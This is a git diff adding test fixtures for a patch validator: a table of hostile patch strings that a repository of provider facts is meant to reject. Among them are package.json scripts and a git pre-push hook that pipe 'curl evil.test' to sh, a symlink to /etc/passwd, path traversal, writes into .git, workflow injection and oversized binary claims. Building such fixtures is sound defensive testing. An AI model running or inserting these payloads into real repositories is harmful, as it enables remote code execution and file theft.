@@ -1,7 +1,9 @@
 /**
  * The base of what a patch is judged by, honest patches, and hostile ones: as changes of files, which git
- * makes a patch of.
+ * makes a patch of, and as bytes that only somebody who writes patches by hand would come up with.
  */
+import { binary } from "./binary-patch.ts";
+
 export const acme = "facts/providers/acme.yaml";
 export const part = "facts/providers/acme/limits.yaml";
 
@@ -235,3 +237,78 @@ export const hostileFiles: Readonly<Record<string, () => Files>> = {
   }),
   "a copy of a provider": beside("facts/providers/copy.yaml", provider),
 };
+
+const line = (path: string, text: string): string => `--- a/${path}\n+++ b/${path}\n${text}`;
+const newFile = (path: string, text: string, mode = "100644"): string =>
+  `diff --git a/${path} b/${path}\nnew file mode ${mode}\n--- /dev/null\n+++ b/${path}\n@@ -0,0 +1 @@\n+${text}\n`;
+const evil =
+  '@@ -1 +1 @@\n-{"scripts":{"check":"true"}}\n+{"scripts":{"check":"curl evil.test"}}\n';
+const lines = provider.split("\n").slice(0, -1);
+/** A hunk without the lines around it, which names lines by their number. */
+const date =
+  "@@ -20 +20 @@\n-            last_verified_at: 2026-02-01\n+            last_verified_at: 2026-03-01T04:05:06Z\n";
+
+/** Bytes that a patch can have although no change of files leads git to write them. */
+export const hostilePatches: Readonly<Record<string, string>> = {
+  "a binary patch with quoted paths": binary({
+    paths: '"a/package.json" "b/package.json"',
+    of: base["package.json"]!,
+    content: '{"scripts":{"check":"curl evil.test | sh"}}\n',
+  }),
+  "a binary patch with octal digits in its paths": binary({
+    paths: '"a/\\160ackage.json" "b/\\160ackage.json"',
+    of: base["package.json"]!,
+    content: "{}\n",
+  }),
+  "a binary patch of the facts": binary({
+    paths: `a/${acme} b/${acme}`,
+    of: provider,
+    content: "name: Evil\n",
+  }),
+  "a binary patch of a new file": binary({
+    paths: '"a/evil.sh" "b/evil.sh"',
+    content: "#!/bin/sh\n",
+    head: "new file mode 100755\n",
+  }),
+  "a new file without git's own line":
+    "--- /dev/null\n+++ b/.github/workflows/evil.yml\n@@ -0,0 +1 @@\n+on: push\n",
+  "a new file whose lines look like those of a patch":
+    "--- /dev/null\n+++ b/.github/workflows/evil.yml\n@@ -0,0 +1,2 @@\n+++ on: push\n+++ jobs: {}\n",
+  "another file without git's own line": line("package.json", evil),
+  "another file after a provider's line": `diff --git a/${acme} b/${acme}\n${line(acme, date)}${line("package.json", evil)}`,
+  "another file between prose": `Subject: dates\n\n${line("package.json", evil)}-- \n2.39\n`,
+  "quoted paths": `diff --git "a/package.json" "b/package.json"\n--- "a/package.json"\n+++ "b/package.json"\n${evil}`,
+  "octal digits in a path": `--- "a/\\160ackage.json"\n+++ "b/\\160ackage.json"\n${evil}`,
+  "paths that differ": `diff --git a/${acme} b/package.json\n--- a/${acme}\n+++ b/package.json\n${date}`,
+  "two changes of one file": `diff --git a/${acme} b/${acme}\n${line(acme, date)}diff --git a/${acme} b/${acme}\n${line(acme, "@@ -17 +17 @@\n-            value: 60\n+            value: 61\n")}`,
+  "a date and a deleted file": `diff --git a/${acme} b/${acme}\n${line(acme, date)}diff --git a/package.json b/package.json\ndeleted file mode 100644\n--- a/package.json\n+++ /dev/null\n@@ -1 +0,0 @@\n-{"scripts":{"check":"true"}}\n`,
+  "a mode": `diff --git a/${acme} b/${acme}\nold mode 100644\nnew mode 100755\n`,
+  "a mode beside a date": `diff --git a/${acme} b/${acme}\nold mode 100644\nnew mode 100755\n${line(acme, date)}`,
+  "the mode of another file":
+    "diff --git a/package.json b/package.json\nold mode 100644\nnew mode 100755\n",
+  "a link": newFile("facts/providers/evil.yaml", "../../package.json", "120000"),
+  "a link in the place of a provider": `diff --git a/${acme} b/${acme}\ndeleted file mode 100644\n--- a/${acme}\n+++ /dev/null\n@@ -1,${lines.length} +0,0 @@\n${lines.map((each) => `-${each}\n`).join("")}${newFile(acme, "/etc/passwd", "120000")}`,
+  "a submodule": newFile("facts/providers/evil", `Subproject commit ${"1".repeat(40)}`, "160000"),
+  "a rename": `diff --git a/${acme} b/facts/providers/other.yaml\nsimilarity index 100%\nrename from ${acme}\nrename to facts/providers/other.yaml\n`,
+  "a rename over another file": `diff --git a/${acme} b/package.json\nsimilarity index 100%\nrename from ${acme}\nrename to package.json\n`,
+  "a copy": `diff --git a/${acme} b/evil.yaml\nsimilarity index 100%\ncopy from ${acme}\ncopy to evil.yaml\n`,
+  "a path that climbs": newFile("../evil.yaml", "x"),
+  "a path that climbs within the facts": newFile("facts/providers/../../evil.yaml", "x"),
+  "an absolute path": "--- /dev/null\n+++ /tmp/evil.yaml\n@@ -0,0 +1 @@\n+x\n",
+  "a hook of git": newFile(".git/hooks/pre-push", "curl evil.test | sh", "100755"),
+  "git's folder in other case": newFile(".GIT/config", "[core]"),
+  "git's folder by its short name": newFile("git~1/config", "[core]"),
+  "a file that is empty":
+    "diff --git a/evil b/evil\nnew file mode 100644\nindex 0000000..e69de29\n",
+  "a name with a line break": `diff --git "a/facts/providers/a\\n.yaml" "b/facts/providers/a\\n.yaml"\nnew file mode 100644\n--- /dev/null\n+++ "b/facts/providers/a\\n.yaml"\n@@ -0,0 +1 @@\n+x\n`,
+  "a claim to hold a gigabyte": `diff --git a/${acme} b/${acme}\nindex ${"1".repeat(40)}..${"2".repeat(40)} 100644\nGIT binary patch\nliteral 1073741824\nzcmZ\n\n`,
+  "more than any honest one": `${line(acme, date)}${"#".repeat(16 * 1024 * 1024)}\n`,
+  "what is no patch": "Hello.\n",
+};
+
+/** The same content, by a patch whose form is no other matter. */
+export const honestBinary = binary({
+  paths: `"a/${acme}" "b/${acme}"`,
+  of: provider,
+  content: dated()[acme]!,
+});
